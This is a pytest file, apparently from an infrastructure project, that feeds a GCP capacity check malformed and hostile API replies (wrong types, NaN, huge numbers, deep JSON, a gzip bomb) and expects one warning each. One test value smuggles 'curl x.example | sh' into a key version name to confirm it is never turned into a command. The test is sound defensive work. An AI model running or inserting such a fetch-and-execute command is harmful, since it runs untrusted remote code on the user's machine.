"""Replies of every shape from the APIs the capacity check reads, through the real clients and a loopback API
(tests/fake_compute.py): not JSON, a JSON array, a string where a list is, numbers out of range, NaN, bytes that
are not UTF-8, nesting a thousand deep, a reply larger than the cap, a gzip bomb, an encoding it did not ask for.
Each one is one warning naming the API and, where the reply has one, the field; never a stop, never an exception,
and never more than ``MAX_REPLY_BYTES`` read or inflated."""

from __future__ import annotations

import gzip
import json

import pytest

from core import bounded
from infra.gcp import capacity
from infra.gcp.capacity import MAX_REPLY_BYTES, ReplyError
from tests.fake_compute import (
    clients,
    crypto_key,
    fake_compute,
    key_after_destroy,
    key_ring,
    quota_info,
    quota_path,
    region,
    reservation,
    serve_project,
)
from tests.hostile import bomb
from tests.lifecycle_walk import settings

pytestmark = pytest.mark.usefixtures("google_clients")

PROD = settings("prod", [])
DEV = settings("dev", [])
REAL_CHECK = capacity.check_capacity
P = "my-tpu-prod-project"
RES = f"/compute/v1/projects/{P}/zones/us-east5-b/reservations/my-v6e-32-reservation"
REGION = f"/compute/v1/projects/{P}/regions/us-east5"
PROJECT = f"/compute/v1/projects/{P}"
NETWORK = f"/compute/v1/projects/{P}/global/networks/tpu-rl-prod-net"
VMS = f"/compute/v1/projects/{P}/zones/us-east5-b/instances"
APIS = f"/v1/projects/{P}/services:batchGet"
RING_NAME = f"projects/{P}/locations/us-east5/keyRings/tpu-rl-prod-keys"
KEY_NAME = f"{RING_NAME}/cryptoKeys/gke-secrets"
RING, KEY = f"/v1/{RING_NAME}", f"/v1/{KEY_NAME}"
QUOTA_ID = "PREEMPTIBLE-TPU-V6E-per-project-region"
QUOTA = quota_path("my-tpu-dev-project", QUOTA_ID)
CLUSTERS = f"/v1/projects/{P}/locations/-/clusters"
ENOUGH = {"CPUS": (1000, 0), "N4_CPUS": (600, 0), "SSD_TOTAL_GB": (4096, 0), "HDB_TOTAL_GB": (8192, 0)}

SOURCES = {
    RES: ("Compute Engine (reservations.get)", "reading reservation my-v6e-32-reservation"),
    REGION: ("Compute Engine (regions.get)", "reading the quotas of region us-east5"),
    PROJECT: ("Compute Engine (projects.get)", f"reading the quotas of project {P}"),
    NETWORK: ("Compute Engine (networks.get)", "reading network tpu-rl-prod-net"),
    VMS: ("Compute Engine (instances.list)", "listing the node VMs of cluster tpu-rl-prod"),
    APIS: ("Service Usage (services.batchGet)", f"listing the APIs of project {P}"),
    RING: ("Cloud KMS (keyRings.get)", f"reading Cloud KMS key ring {RING_NAME}"),
    KEY: ("Cloud KMS (cryptoKeys.get)", f"reading Cloud KMS key {KEY_NAME}"),
    QUOTA: ("Cloud Quotas (quotaInfos.get)", f"reading quota {QUOTA_ID}"),
    CLUSTERS: ("GKE (clusters.list)", f"listing the GKE clusters of project {P}"),
}
"""Path -> (the API a line names, what the check was reading)."""
WRONG_TYPE = {
    RES: {"name": "my-v6e-32-reservation", "specificReservation": "eight VMs"},
    REGION: {"name": "us-east5", "quotas": "plenty"},
    PROJECT: {"name": P, "quotas": "plenty"},
    NETWORK: {"name": "tpu-rl-prod-net", "subnetworks": "one"},
    VMS: {"kind": "compute#instanceList", "items": "none"},
    APIS: {"services": "all enabled"},
    RING: {"name": ["a", "ring"]},
    KEY: {"name": KEY_NAME, "purpose": "ENCRYPT_DECRYPT", "primary": "enabled"},
    QUOTA: {"quotaId": QUOTA_ID, "dimensionsInfos": "unlimited"},
    CLUSTERS: {"clusters": "all of them"},
}
"""A string (or a list) where the API has a list (or an object, a string)."""
WRONG_FIELD = {
    RES: "specificReservation",
    REGION: "quotas",
    PROJECT: "quotas",
    NETWORK: "subnetworks",
    VMS: "items",
    APIS: "services",
    RING: "name",
    KEY: "primary",
    QUOTA: "dimensionsInfos",
    CLUSTERS: "clusters",
}


def vms(**specific: object) -> dict[str, object]:
    """A reservation of 8 ct6e VMs, with other ``specificReservation`` fields."""
    fields = {"count": "8", "instanceProperties": {"machineType": "ct6e-standard-4t"}, **specific}
    return {"name": "my-v6e-32-reservation", "specificReservationRequired": True, "specificReservation": fields}


def json_body(document: object, headers: dict[str, str] | None = None) -> tuple[int, dict[str, str], bytes]:
    return 200, {"Content-Type": "application/json", **(headers or {})}, json.dumps(document).encode()


@pytest.fixture
def compute(monkeypatch):
    """Every read of the prod stack (a ring and key of its names left by a destroy) and the dev stack's TPU quota
    answers well; a test spoils one."""
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
    with fake_compute() as fake:
        for project in (P, "my-tpu-dev-project"):
            serve_project(fake, project, ENOUGH)
        fake.routes[RES] = (200, reservation("my-v6e-32-reservation", project=P, zone="us-east5-b", count=8))
        fake.routes[RING] = (200, key_ring(RING_NAME))
        fake.routes[KEY] = (200, key_after_destroy(KEY_NAME, "ENABLED"))
        fake.routes[QUOTA] = (
            200,
            quota_info("my-tpu-dev-project", QUOTA_ID, [({"region": "us-east5"}, 8, ["us-east5"])]),
        )
        yield fake


def run(fake, path):
    """The check of the stack that reads ``path``; the one warning about ``path``'s API, checked to be the only
    finding about it, and no problem anywhere."""
    findings = REAL_CHECK(DEV if path == QUOTA else PROD, clients(fake))
    assert [f for f in findings if f.level == "problem"] == [], findings
    api, reading = SOURCES[path]
    (line,) = [f for f in findings if api in f.text]
    assert line.level == "unknown" and line.text.startswith((f"{reading}: {api} ", f"{reading}: {api}: ")), line
    assert "\n" not in line.text and len(line.text) < 600
    return line.text


def test_the_good_answers_pass(compute):
    findings = REAL_CHECK(PROD, clients(compute))
    assert [f.level for f in findings] == ["note", "note"], "the ring and the key of the stack's names are reused"
    assert not [f for f in REAL_CHECK(DEV, clients(compute)) if f.level != "note"]


@pytest.mark.parametrize("path", list(SOURCES), ids=lambda p: SOURCES[p][0])
@pytest.mark.slow
def test_a_proxy_page_instead_of_json_is_one_warning(compute, path):
    compute.raw[path] = (200, {"Content-Type": "text/html"}, b"<html><body>a proxy in the way</body></html>")
    assert run(compute, path).endswith("answered with a reply this check cannot read (not a JSON object)" + tail(path))


def tail(path):
    """What a warning adds after the reply's description: which check it skipped."""
    return {
        RES: "; the reservation was not checked",
        REGION: "; the quotas were not checked",
        PROJECT: "; the project's quotas were not checked",
        NETWORK: "; the quotas of the network's objects were not checked",
        VMS: "; VMs this stack already holds are not counted",
        APIS: "; the APIs were not checked",
        RING: f"; if an earlier destroy left key ring {RING_NAME}, its create fails with 409 (already exists): "
        f"then set tpu-rl:gke.secretsEncryptionKey to its key {KEY_NAME}",
        KEY: "; if the key exists, its create fails with 409 (a key's name is never free again): then set "
        f"tpu-rl:gke.secretsEncryptionKey to {KEY_NAME}",
        QUOTA: "; TPU quota was not checked",
        CLUSTERS: f"; whether a GKE cluster uses key {KEY_NAME} is unknown, so this `up` adopts it only as a destroy "
        "leaves it (its rotation off): otherwise, if the stack's state does not hold it, its create fails with 409 "
        "(already exists)",
    }[path]


@pytest.mark.parametrize("path", list(SOURCES), ids=lambda p: SOURCES[p][0])
@pytest.mark.slow
def test_a_field_of_another_type_is_one_warning_naming_it(compute, path):
    compute.raw[path] = json_body(WRONG_TYPE[path])
    text = run(compute, path)
    assert f"cannot read ({WRONG_FIELD[path]}" in text, text


def test_a_json_array_is_not_read_as_an_empty_reservation(compute):
    """The protobuf parser reads ``[]`` as an empty message: a reservation that is not specific (a false stop)."""
    compute.raw[RES] = json_body([])
    assert "(not a JSON object)" in run(compute, RES)


def test_a_reply_about_another_object_is_not_read_as_this_one(compute):
    compute.routes[RES] = (200, reservation("someone-elses", project=P, zone="us-east5-b", count=8))
    assert "(name is 'someone-elses', not my-v6e-32-reservation)" in run(compute, RES)
    compute.routes[REGION] = (200, {})
    assert "(name is '', not us-east5)" in run(compute, REGION)
    compute.routes[PROJECT] = (200, {"name": "someone-elses-project", "quotas": []})
    assert f"(name is 'someone-elses-project', not {P})" in run(compute, PROJECT)


@pytest.mark.parametrize(
    ("path", "document", "words"),
    [
        (REGION, {"name": "us-east5", "quotas": [{"metric": "CPUS", "limit": 1e400, "usage": 0}]}, "quotas[0].limit"),
        (REGION, {"name": "us-east5", "quotas": [{"metric": "CPUS", "limit": "NaN", "usage": 0}]}, "is nan"),
        (REGION, {"name": "us-east5", "quotas": [{"metric": "CPUS", "limit": 10, "usage": -5}]}, "usage is -5"),
        (REGION, {"name": "us-east5", "quotas": [{"metric": "CPUS", "limit": 1e300, "usage": 0}]}, "out of range"),
        (PROJECT, {"name": P, "quotas": [{"metric": "CPUS_ALL_REGIONS", "limit": 32, "usage": -1}]}, "usage is -1"),
        (RES, vms(count="1" + "0" * 30), "(count: Value out of range"),
        (RES, vms(count=str(2**40)), "(specificReservation.count is 1099511627776, not a count)"),
        (RES, vms(inUseCount="-1"), "(specificReservation.inUseCount is -1, not a count)"),
        (QUOTA, {"quotaId": QUOTA_ID, "dimensionsInfos": [{"details": {"value": str(2**62)}}]}, "details.value"),
        (KEY, {"name": KEY_NAME, "purpose": 10**30}, "(purpose: Value out of range"),
        (VMS, {"kind": "compute#instanceList", "items": [{"machineType": 7}]}, "machineType"),
    ],
    ids=[
        "inf",
        "nan",
        "negative",
        "huge-limit",
        "negative-global",
        "int64-overflow",
        "huge-count",
        "negative-count",
        "huge-limit-int",
        "huge-enum",
        "number-for-text",
    ],
)
@pytest.mark.slow
def test_numbers_out_of_range_are_one_warning_naming_the_field(compute, path, document, words):
    compute.raw[path] = json_body(document)
    text = run(compute, path)
    assert words in text, text


@pytest.mark.parametrize(
    "version",
    [f"{KEY_NAME}-other/cryptoKeyVersions/1", f"{KEY_NAME}/cryptoKeyVersions/1; curl x.example | sh", ""],
    ids=["another-key", "shell", "empty"],
)
def test_a_primary_version_not_of_this_key_is_one_warning_never_a_command(compute, version):
    """The version's id goes into the gcloud command the check names for a key a destroy left: a reply naming another
    key's version, or text that is not a version id, is a reply the check cannot read, not a command to copy."""
    document = crypto_key(KEY_NAME, primary="DISABLED")
    document["primary"]["name"] = version
    compute.raw[KEY] = json_body(document)
    text = run(compute, KEY)
    assert (
        "(primary.name is " in text and "not a version of this key)" in text and "gcloud kms keys versions" not in text
    )


def test_bytes_that_are_not_utf8_and_json_nested_a_thousand_deep(compute):
    compute.raw[REGION] = (200, {"Content-Type": "application/json"}, b'{"name": "us-east5\xff\xfe"}')
    assert "cannot read" in run(compute, REGION)
    deep = b'{"name": "us-east5", "x": ' + b'{"a": ' * 1000 + b"1" + b"}" * 1000 + b"}"
    compute.raw[REGION] = (200, {"Content-Type": "application/json"}, deep)
    assert "(JSON nested deeper than 64 levels)" in run(compute, REGION)


TOO_LARGE = "replied more than 4 MiB (a Google API answers this in kilobytes: check for a proxy in the way)"


@pytest.mark.slow
def test_a_gzip_bomb_is_cut_at_the_cap_not_inflated_whole(compute, monkeypatch):
    inflated: list[int] = []
    real = bounded.streamed

    def counting(chunks, encoding, cap, what):
        for chunk in real(chunks, encoding, cap, what):
            inflated.append(len(chunk))
            yield chunk

    monkeypatch.setattr(bounded, "streamed", counting)
    compute.raw[REGION] = (200, {"Content-Type": "application/json", "Content-Encoding": "gzip"}, bomb())
    line = run(compute, REGION)
    assert line.startswith(
        "reading the quotas of region us-east5: Compute Engine (regions.get): GET http://127.0.0.1:"
    ), line
    assert f"/compute/v1/projects/{P}/regions/us-east5 {TOO_LARGE}; the quotas were not checked" in line, line
    assert sum(inflated) <= MAX_REPLY_BYTES, "inflated up to the cap, never the bomb's 64 MiB"


def test_a_reply_larger_than_the_cap_is_one_warning(compute):
    compute.raw[VMS] = json_body({"kind": "compute#instanceList", "items": [], "pad": "x" * (MAX_REPLY_BYTES + 1)})
    assert TOO_LARGE in run(compute, VMS)


def test_a_gzip_encoded_good_answer_passes_and_an_encoding_not_asked_for_is_a_warning(compute):
    good = json.dumps(region("us-east5", ENOUGH)).encode()
    compute.raw[REGION] = (200, {"Content-Type": "application/json", "Content-Encoding": "gzip"}, gzip.compress(good))
    findings = REAL_CHECK(PROD, clients(compute))
    assert [f.level for f in findings] == ["note", "note"], findings
    compute.raw[REGION] = (200, {"Content-Type": "application/json", "Content-Encoding": "br"}, b"\x8b\x00")
    assert "(content encoding 'br')" in run(compute, REGION)


def test_every_client_reads_through_the_cap(compute):
    made = clients(compute)
    try:
        for client in made.all():
            adapter = client.transport._session.get_adapter("https://compute.googleapis.com/")
            assert type(adapter).__name__ == "CappedAdapter", type(client).__name__
    finally:
        made.close()


# ---------------------------------------------------------------------------------------------
# A reply's errors (pure)


@pytest.mark.pure
def test_what_a_parse_error_names():
    assert capacity.parse_failure("Failed to load JSON: Expecting value: line 1 column 1 (char 0).") == "not JSON"
    assert (
        capacity.parse_failure("Failed to parse quotas field: Couldn't parse float: abc at Region.quotas[0].limit.")
        == "quotas[0].limit: Couldn't parse float: abc"
    )
    assert (
        capacity.parse_failure(
            "Failed to parse quotas field: Failed to parse metric field: expected string, got 'int'."
        )
        == "quotas.metric: expected string, got 'int'"
    )
    with pytest.raises(ReplyError, match="not a JSON object"):
        capacity.json_object(b"  [1]")
